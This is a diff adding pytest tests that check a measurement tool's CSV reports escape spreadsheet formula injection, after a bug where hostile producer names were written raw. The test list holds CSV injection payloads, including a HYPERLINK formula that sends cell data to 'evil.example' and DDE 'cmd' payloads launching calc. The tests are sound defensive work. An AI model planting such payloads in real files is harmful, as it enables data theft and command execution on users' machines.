@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import re
 from pathlib import Path
 
 import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from sizecheck import report
 from sizecheck.errors import SizecheckError
@@ -241,3 +245,103 @@ def test_early_deviations_failed_run_leaves_no_new_folder(tmp_path: Path) -> Non
     with pytest.raises(SizecheckError), report.EarlyDeviations(out, []) as early:
         analyse([example_path()], on_compared=early, drift_rules=["bogus"])
     assert not out.exists()
+
+
+# --------------------------------------------------------------------------- CSV injection
+
+#: Producer names and cells a spreadsheet would run as formulas (OWASP's examples and
+#: issue 18's), and texts that only look like them.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "\tTab",
+    "\rCR",
+]
+LOOK_ALIKES = ["-5", "+3,5", "-0.25", "UD Maju-Jaya", " =spaced", "", "plain"]
+
+
+def _cells(path: Path) -> list[list[str]]:
+    """Every row of a CSV as a spreadsheet's CSV import splits it (Python's csv module)."""
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_formulas_are_escaped_in_text_cells_numbers_untouched(tmp_path: Path) -> None:
+    from sizecheck.escaping import formula_safe
+
+    texts = FORMULAS + LOOK_ALIKES
+    n = len(texts)
+    frame = pd.DataFrame(
+        {
+            "text": pd.Series(texts, dtype="str"),
+            "obj": pd.Series(texts, dtype=object),
+            "cat": pd.Categorical(texts),
+            "value": np.linspace(-5.5, 5.5, n),
+            "count": np.arange(n) - 5,
+            "=name": 1,
+        }
+    )
+    rows = _cells(report._write_csv(frame, tmp_path / "x.csv"))
+    assert rows[0] == ["text", "obj", "cat", "value", "count", "'=name"]
+    for row, text, value, count in zip(
+        rows[1:], texts, frame["value"], frame["count"], strict=True
+    ):
+        assert row[:3] == [formula_safe(text)] * 3
+        assert float(row[3]) == value and int(row[4]) == count  # negative numbers stay
+    escaped = [r[0] for r in rows[1:] if r[0].startswith("'")]
+    assert escaped == ["'" + f for f in FORMULAS]  # and nothing else
+
+
+@given(st.lists(st.text(alphabet="=+-@\t\r 0123456789.,eEaZ'|\"(", max_size=8), max_size=40))
+@settings(max_examples=200, deadline=None)
+def test_vectorised_escaping_equals_the_function(texts: list[str]) -> None:
+    import pyarrow as pa
+
+    from sizecheck.escaping import formula_safe
+
+    expected = [*map(formula_safe, texts), None]
+    for kind in (pa.string(), pa.large_string()):
+        arr = pa.array([*texts, None], type=kind)
+        assert report._formula_safe_arrow(arr).to_pylist() == expected
+        chunked = pa.chunked_array([arr[: len(texts) // 2], arr[len(texts) // 2 :]])
+        assert report._formula_safe_arrow(chunked).to_pylist() == expected
+
+
+def test_measure_writes_no_runnable_cell(tmp_path: Path) -> None:
+    """Issue 18: hostile producer names were written raw into 94 CSV cells."""
+    from typer.testing import CliRunner
+
+    from sizecheck.cli import app
+    from sizecheck.escaping import NUMBER_PATTERN
+
+    rng = np.random.default_rng(1)
+    lines = []
+    for producer in FORMULAS[:5]:
+        for size in range(38, 44):
+            for _ in range(3):
+                value = round(size * 20 / 3 + rng.normal(0, 1.0), 1)
+                lines.append([producer, str(size), str(value), "=sampel", "-"])
+    data = tmp_path / "qa.csv"
+    with data.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["produsen", "ukuran", "panjang insole (mm)", "no", "keterangan"])
+        writer.writerows(lines)
+        writer.writerow(["@SUM(A1)", "41", "=2+5", "x", ""])  # a rejected formula cell
+    out = tmp_path / "out"
+    result = CliRunner().invoke(app, ["measure", str(data), "--no-charts", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    number = re.compile(NUMBER_PATTERN)
+    runnable = [
+        (path.name, cell)
+        for path in sorted(out.glob("*.csv"))
+        for row in _cells(path)
+        for cell in row
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not number.fullmatch(cell)
+    ]
+    assert runnable == []
+    names = {r[3] for r in _cells(out / "deviations.csv")[1:]}
+    assert names == {"'" + f for f in FORMULAS[:5]}  # shown, not run
+    assert any(r[3] == "'=2+5" for r in _cells(out / "rejects.csv"))
